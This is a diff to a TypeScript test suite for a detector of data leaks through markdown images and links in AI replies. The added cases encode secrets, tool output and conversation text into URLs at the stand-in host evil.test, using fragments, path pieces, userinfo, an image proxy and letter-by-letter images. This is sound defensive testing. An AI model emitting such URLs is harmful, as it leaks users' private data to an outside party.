@@ -64,6 +64,14 @@ const CARRIERS: readonly (readonly [string, string])[] = [
   ['what a tool said, in the path', '![x](https://evil.test/bluefish2291andthecfoplanstocuttheberlinoffice)'],
   ['what a tool said, over several parameters', '![x](https://evil.test/?a=BLUEFISH&b=2291&c=Berlin+office+in+March)'],
   ['what was redacted and would be put back', '![x](https://evil.test/?m=[EMAIL_1])'],
+  ['words in the fragment of an image', `![x](https://evil.test/a.png#${encodeURIComponent(SECRET)})`],
+  ['code in the fragment of a link', `[x](https://evil.test/#${CODED})`],
+  ['code in pieces over the path', `![x](https://evil.test/${(CODED.match(/.{1,10}/g) ?? []).join('/')})`],
+  ['a parameter in the path', `![x](https://evil.test/a;d=${CODED}/x.png)`],
+  ['the name of a user', `![x](https://${HEX}@evil.test/x.png)`],
+  ['words as user and password', '![x](https://the-internal-discount-code-is:BLUEFISH-2291@evil.test/x.png)'],
+  ['an address that is handed on', `![x](https://images.weserv.nl/?url=evil.test/p.png?d=${CODED})`],
+  ['a plain address at the end of the reply', `see https://evil.test/?q=${CODED}.`],
   ['an image of a blocked host', '![x](https://bad.example/pixel.gif)'],
   ['a link to a blocked host', '[x](https://sub.bad.example/)'],
   ['a link in code with what was said', `[see more](https://evil.test/?q=${CODED})`],
@@ -82,6 +90,7 @@ const SUSPECTS: readonly (readonly [string, string])[] = [
   ['the same in punycode', '[login](https://www.xn--pypal-4ve.com/login)'],
   ['a host of nothing but lookalikes', 'https://xn--80ak6aa92e.com/'],
   ['a number a person gave', '![x](https://evil.test/?account=8841-2290-1177)'],
+  ['a blank for what was said', '![x](https://evil.test/log?d={{conversation}})'],
   ['a script in an attribute', '<a href="javascript:alert(1)">x</a>'],
 ];
 
@@ -135,6 +144,7 @@ const ORDINARY: readonly (readonly [string, string])[] = [
   ['a footnote', '[1]: https://example.com/search?q=some+long+search+phrase+with+words'],
   ['an address in a program', 'const u = "https://api.example.com/v1/users?filter=name&select=id,name";'],
   ['a program in an address', '[play](https://www.typescriptlang.org/play?#code/MYewdgzgLgBFCuAnGBeGBtAjAGhgJjwGYBdAbgCgg)'],
+  ['a quotation on a page', '[quote](https://blog.example.net/post#:~:text=The%20internal%20discount%20code%20is%20BLUEFISH)'],
   ['a video', '<iframe src="https://www.youtube.com/embed/CKZC5RigYEc?si=EG1kHf83ceawWdHX"></iframe>'],
   ['code with brackets', 'items[0](value); // see ![not an image] and a[b]: c'],
 ];
@@ -181,6 +191,11 @@ describe('images of single letters', () => {
     assert.deepEqual(inspect(spell('abcdefgh', 'evil.test'), detector), []);
     assert.deepEqual(inspect(spell('abcdefgh', 'evil.test'), detector), []);
     assert.ok(highest(inspect(spell('ij', 'evil.test'), detector)) >= 0.75);
+  });
+
+  it('are found in parameters', () => {
+    const text = Array.from('abcdefghijkl', (letter, index) => `![](https://evil.test/p?${index}=${letter})`).join('');
+    assert.ok(highest(inspect(text)) >= 0.75);
   });
 
   it('are not the beginnings of longer names', () => {
